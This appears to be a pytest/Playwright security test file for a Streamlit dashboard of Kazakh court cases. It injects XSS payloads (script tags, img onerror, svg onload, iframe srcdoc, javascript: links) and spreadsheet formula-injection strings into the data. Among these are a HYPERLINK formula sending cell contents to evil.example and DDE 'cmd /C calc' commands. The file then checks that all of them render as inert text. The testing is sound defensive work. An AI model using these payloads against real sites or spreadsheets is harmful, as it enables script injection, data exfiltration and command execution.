"""Hostile text in a real browser: names, titles and summaries holding ``<script>``,
``<img onerror>``, ``<svg onload>``, ``<iframe srcdoc>`` and Markdown links are shown as text
on every page (tables, tooltips, captions, the Cases city chooser, the sources page) and never run; a
city named with a URL and a ``:material/…:`` code shows neither a link nor an icon.

Proof, on each page: no dialog opened, ``window.__xss`` (which every payload would set) is
still undefined, the DOM holds no element the payloads would create (``img[src=x]``, an
``svg``/``iframe`` of theirs, any ``on…`` handler attribute, a script mentioning ``__xss``), and
the text itself is on the page as typed. Downloads of the same rows neutralise spreadsheet
formulas; the Excel file is opened with openpyxl to check. An unexpected error shows no
details. Screenshots go to artifacts/screenshots/hostile-*.png.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from urllib.parse import urlencode

import openpyxl
import pytest
from playwright.sync_api import expect

from geo.data.validate import FORMULA_PREFIXES, validate_dir

from browser_support import pixel_of, screenshot, shown_view, wait_for_page_drawn, wait_until_settled
from robustness_report import record
from server_support import ROOT, Server
from test_dashboard_browser import deck_canvas, wait_for_map
from testdata import SAMPLE

SCRIPT = "<script>window.__xss=1;alert('script')</script>"
IMG = "<img src=x onerror=\"window.__xss=1;alert('img')\">"
SVG = "<svg onload=\"window.__xss=1;alert('svg')\"></svg>"
IFRAME = "<iframe srcdoc=\"<script>parent.__xss=1;alert('iframe')</script>\"></iframe>"
MD_LINK = "[click](javascript:window.__xss=1)"
FORMULAS = {
    "court": '=HYPERLINK("http://evil.example/?"&A1,"details")',
    "charges": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "+cmd|' /C calc'!A0",
}
ALMATY = f"{SCRIPT}Almaty"
SHYMKENT = f"{MD_LINK} {IMG}Shymkent"
#: Text that Markdown would turn into a link (GFM autolinks) and an icon (Streamlit's directive).
AKTOBE = "https://evil.example/x www.evil.example :material/bolt: Aktobe"
HOSTILE_CASE = "cv-2022-07-11-almaty-imanbekov"
#: Elements and attributes the payloads would create if any of them ran or were parsed as HTML.
INJECTED = """() => {
  const found = [];
  for (const el of document.querySelectorAll('img[src="x"], svg[onload], iframe[srcdoc], [onerror], [onload], [onmouseover]'))
    found.push(el.outerHTML.slice(0, 120));
  for (const s of document.querySelectorAll('script'))
    if (s.textContent.includes('__xss')) found.push(s.outerHTML.slice(0, 120));
  for (const a of document.querySelectorAll('a[href^="javascript:"], a[href*="evil.example"]'))
    found.push(a.outerHTML.slice(0, 120));
  for (const i of document.querySelectorAll('[data-testid="stIconMaterial"]'))
    if (i.textContent.trim() === 'bolt') found.push('material icon from the data: ' + i.outerHTML.slice(0, 120));
  return found;
}"""


def rewrite(path: Path, key: str, changes: dict[str, dict[str, str]]) -> None:
    """Set cells of ``path`` (a CSV table) by row id: ``{row_id: {column: value}}``."""
    with open(path, newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        header, rows = reader.fieldnames, list(reader)
    missing = set(changes) - {row[key] for row in rows}
    assert not missing, f"{path.name} has no row {sorted(missing)}: the payload would never reach the page"
    for row in rows:
        for column, value in changes.get(row[key], {}).items():
            assert column in header, (path.name, column)
            row[column] = value
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, header, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory) -> Path:
    directory = tmp_path_factory.mktemp("hostile") / "data"
    directory.mkdir()
    for f in SAMPLE.glob("*.csv"):
        (directory / f.name).write_bytes(f.read_bytes())
    rewrite(
        directory / "locations.csv",
        "location_id",
        {"almaty": {"name": ALMATY}, "shymkent": {"name": SHYMKENT}, "aktobe": {"name": AKTOBE}},
    )
    rewrite(directory / "sources.csv", "source_id", {"src-001": {"title": f"{IMG} A headline", "publisher": SCRIPT}})
    rewrite(
        directory / "convictions.csv",
        "case_id",
        {
            HOSTILE_CASE: {"summary": f"{SCRIPT} {IMG} A summary.", **FORMULAS},
            "cv-2022-07-15-shymkent": {"summary": SVG, "summary_ru": "-2+3+cmd|' /C calc'!A0"},
        },
    )
    # The pages show the names people.csv records; each defendants.csv row must name its person
    # as people.csv does, so both carry the payload. A name holds no ';' (it separates the names of
    # a decision) and a Cyrillic name no Latin letter: the payloads there join with a comma instead.
    names = {
        "imanbekov-alibek": {"name": f"{IMG.replace(';', ',')} Alibek"},
        "sultanbek-kairat": {"name": f"{SCRIPT.replace(';', ',')}Kairat"},
    }
    rewrite(directory / "people.csv", "person_id", names)
    rewrite(directory / "defendants.csv", "person_id", names)
    rewrite(directory / "events.csv", "event_id", {"ev-2022-01-unrest": {"summary": f"{SVG} Unrest."}})
    rewrite(directory / "official_stats.csv", "stat_id", {"st-003-convicted-0630": {"reported_by": IFRAME}})
    report = validate_dir(directory)
    assert report.ok and len(report.warnings) >= 10, str(report)
    return directory


@pytest.fixture(scope="module")
def hostile_server(hostile_dir, browser):  # browser: no chromium, no server
    with Server(hostile_dir) as server:
        yield server


@pytest.fixture
def watched(page):
    """The page, with every dialog recorded (and dismissed)."""
    dialogs: list[str] = []

    def on_dialog(dialog):
        dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.dialogs = dialogs
    # Wide enough that every table column is drawn: the grid exposes only the cells in view.
    page.set_viewport_size({"width": 2600, "height": 1000})
    return page


def assert_nothing_ran(page, where: str) -> None:
    wait_until_settled(page)  # any payload that would fire has fired, and its dialog been seen
    assert page.dialogs == [], where
    assert page.evaluate("() => typeof window.__xss") == "undefined", where
    assert page.evaluate(INJECTED) == [], where
    assert page.locator('[data-testid="stException"]').count() == 0, where


def open_hostile(page, url: str) -> None:
    page.goto(url)
    page.locator('[data-testid="stSidebar"]').wait_for()
    page.locator("h1").first.wait_for()
    page.locator('[data-testid="stAlertContentWarning"]').first.wait_for()  # "loaded with N warnings"
    page.locator('[data-testid="stSidebar"] [data-testid="stMultiSelect"]').first.wait_for()  # filters drawn


def grid_text(page, table_index: int = 0) -> str:
    """The text of a table's cells as the grid exposes them: it draws on a canvas, and keeps the
    cells as text in an accessible (visually hidden) table beside it."""
    grid = page.locator('[data-testid="stDataFrame"]').nth(table_index)
    grid.locator('[role="row"]').nth(1).wait_for(state="attached")
    return grid.text_content()


PAGES_SEEN: dict[str, str] = {}


def test_map_tooltip_and_city_table_show_the_payloads_as_text(hostile_server, hostile_dir, watched):
    page = watched
    open_hostile(page, hostile_server.url)
    wait_for_map(page)
    canvas = deck_canvas(page)
    tooltip = page.locator(".deck-tooltip")
    for _ in range(5):  # hover Almaty's circle until deck.gl shows its tooltip
        box = canvas.bounding_box()
        x, y = pixel_of(43.25249, 76.9115, shown_view(hostile_dir, box["width"]), box["width"], box["height"])
        page.mouse.move(box["x"] + x, box["y"] + y)
        try:
            expect(tooltip).to_contain_text("Almaty", timeout=3000)
            break
        except AssertionError:
            page.mouse.move(box["x"] + 5, box["y"] + 5)
    assert tooltip.inner_text().startswith(ALMATY)  # the name as typed, script tags and all
    # Set as text (innerText): its only elements are the <br> of its line breaks, nothing parsed.
    lines = tooltip.inner_text().count("\n") + 1
    assert tooltip.evaluate("e => [...e.children].map(c => c.tagName)") == ["BR"] * (lines - 1)
    assert "&lt;script&gt;" in tooltip.evaluate("e => e.innerHTML")
    screenshot(page, "hostile-map-tooltip")
    assert_nothing_ran(page, "map, tooltip")

    chosen = page.get_by_role("combobox", name="Cases in")
    chosen.click()
    page.keyboard.type("Almaty")
    page.locator('[role="option"]').filter(has_text="Almaty").first.click()
    text = grid_text(page)  # the grid exposes the columns in view: names and court
    # The name's markup as text, in two pieces: a list cell's accessible text shows its comma as a space.
    head, tail = IMG.split(";")
    assert f"{head} {tail} Alibek" in text and FORMULAS["court"] in text
    wait_for_page_drawn(page)
    screenshot(page, "hostile-map-city-table")
    assert_nothing_ran(page, "map, city table")
    PAGES_SEEN["map"] = "tooltip and city table show the markup as text"


def test_cases_page_tabs_tables_and_downloads(hostile_server, watched, tmp_path):
    page = watched
    open_hostile(page, f"{hostile_server.url}/cases")
    chooser = page.get_by_role("combobox", name="Cases in")
    chooser.click()
    options = page.locator('[role="option"]')
    expect(options.filter(has_text="<script>")).to_have_count(1)  # the city's name, as typed
    expect(options.filter(has_text=MD_LINK)).to_have_count(1)  # a Markdown link stays text
    expect(options.filter(has_text=AKTOBE)).to_have_count(1)  # no link, no icon: plain text
    assert_nothing_ran(page, "cases, city list open")
    options.filter(has_text=AKTOBE).click()
    page.wait_for_url(re.compile(r"[?&]tab=aktobe(&|$)"))  # chosen: the URL names the city by id, not by its text
    # the URL changes before the rerun: wait for the tab's own table, the header and Aktobe's one decision
    expect(page.locator('[data-testid="stDataFrame"]').first.locator('[role="row"]')).to_have_count(2)
    wait_for_page_drawn(page)
    screenshot(page, "hostile-cases-url-and-icon-name")
    assert_nothing_ran(page, "cases, a city whose name holds a URL and an icon code")
    chooser.click()
    options.filter(has_text="All cities").click()
    page.wait_for_url(lambda url: "tab=" not in url)
    expect(page.locator('[data-testid="stDataFrame"]').first).to_contain_text("<img src=x")
    text = grid_text(page)
    assert "⚠" in text and "<img src=x" in text
    wait_for_page_drawn(page)
    screenshot(page, "hostile-cases")
    assert_nothing_ran(page, "cases")

    cells = {}
    for kind in ("csv", "xlsx"):
        with page.expect_download() as info:
            page.locator('[data-testid="stDownloadButton"]').filter(
                has_text="CSV" if kind == "csv" else "Excel"
            ).first.click()
        cells[kind] = Path(info.value.path())
    rows = {r["case_id"]: r for r in csv.DictReader(io.StringIO(cells["csv"].read_text(encoding="utf-8")))}
    for column, value in FORMULAS.items():
        assert rows[HOSTILE_CASE][column] == "'" + value
    assert rows["cv-2022-07-15-shymkent"]["summary_ru"].startswith("'-2+3")

    sheet = openpyxl.load_workbook(io.BytesIO(cells["xlsx"].read_bytes())).active
    header = [c.value for c in sheet[1]]
    formula_like = [
        c
        for row in sheet.iter_rows(min_row=2)
        for c in row
        if isinstance(c.value, str) and c.value.lstrip("'").startswith(FORMULA_PREFIXES)
    ]
    assert len(formula_like) >= 4
    for cell in formula_like:
        assert cell.data_type != "f" and cell.value.startswith("'"), (header[cell.column - 1], cell.value)
    by_case = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for column, value in FORMULAS.items():
        assert by_case[HOSTILE_CASE][header.index(column)].value == "'" + value
    PAGES_SEEN["cases"] = "city chooser (plain text: no link, no icon), table, CSV and Excel downloads"
    record(
        "downloads",
        formula_cells_checked=len(formula_like),
        csv="every formula-like cell starts with '",
        excel="openpyxl: formula-like cells are strings (data_type 's') starting with ', none is a formula",
    )


@pytest.mark.parametrize(
    "path, needle",
    [
        ("/timeline", "<svg onload"),
        ("/sources", "<img src=x"),
    ],
)
def test_tables_of_the_other_pages_show_the_payloads_as_text(hostile_server, watched, path, needle):
    page = watched
    open_hostile(page, hostile_server.url + path)
    assert needle in grid_text(page)
    if path == "/timeline":
        assert "<iframe" in grid_text(page, 1)  # who gave an official figure
    page.locator('[data-testid="stDataFrame"]').first.scroll_into_view_if_needed()
    wait_for_page_drawn(page)
    screenshot(page, f"hostile-{path.strip('/')}")
    assert_nothing_ran(page, path)
    PAGES_SEEN[path.strip("/")] = f"table shows {needle!r} as text"


def test_about_and_a_filtered_description_line(hostile_server, watched):
    page = watched
    open_hostile(page, f"{hostile_server.url}/about?{urlencode({'city': f'{ALMATY} · Алматы'})}")
    line = page.locator('[data-testid="stText"]').first
    expect(line).to_contain_text(SCRIPT)  # the one-line description, with the name as typed
    wait_for_page_drawn(page)  # the coverage table too, not only the precision table
    screenshot(page, "hostile-about")
    assert_nothing_ran(page, "about")
    PAGES_SEEN["about"] = "description line shows the name as text"
    record(
        "hostile_browser",
        payloads=[SCRIPT, IMG, SVG, IFRAME, MD_LINK, AKTOBE],
        pages=dict(PAGES_SEEN),
        dialogs=0,
        injected_elements=0,
        window_xss="undefined on every page",
    )


def test_an_unexpected_error_shows_no_details_in_the_browser(browser, watched):
    page = watched
    with Server(script=ROOT / "tests" / "fixtures" / "apps" / "raises.py") as server:
        page.goto(server.url)
        shown = page.locator('[data-testid="stException"]')
        shown.wait_for()
        text = page.locator("body").inner_text()
        screenshot(page, "error-details-hidden")
    assert "redacted" in shown.inner_text()
    for leak in ("SECRET-DETAIL", "RuntimeError", "Traceback", "raises.py", "informants"):
        assert leak not in text
